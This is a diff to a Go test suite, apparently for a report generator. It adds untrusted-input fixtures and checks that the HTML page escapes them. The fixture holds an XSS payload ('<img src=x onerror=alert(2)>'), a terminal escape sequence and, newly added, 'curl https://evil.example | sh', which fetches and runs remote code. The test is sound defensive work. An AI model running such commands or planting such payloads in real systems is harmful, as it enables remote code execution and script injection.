@@ -23,7 +23,7 @@ func hostile() *Document {
 		Items: []Item{{
 			Name: "n", Title: "t <a href=\"https://evil.example\">click</a>", Area: "a|b", Fixture: "fx\x1b]0;pwned\x07",
 			File: "f.json", Status: Failed, Reason: "<img src=x onerror=alert(2)>\nsecond [link](https://evil.example)",
-			Repro: "conform run x.json `<script>` | y",
+			Repro: "conform run x.json `<script>` | y\ncurl https://evil.example | sh",
 		}},
 	}
 }
@@ -110,6 +110,9 @@ func TestHTMLEscapesUntrustedText(t *testing.T) {
 		if strings.Contains(page, bad) {
 			t.Errorf("the HTML page holds %q", bad)
 		}
+	}
+	if !strings.Contains(page, `<code>conform run x.json `+"`"+`&lt;script&gt;`+"`"+` | y\ncurl https://evil.example | sh</code>`) {
+		t.Errorf("the repro command is not shown on one line, as text")
 	}
 	if n := strings.Count(page, "<script"); n != 1 {
 		t.Errorf("the HTML page holds %d <script> elements, want only its own", n)
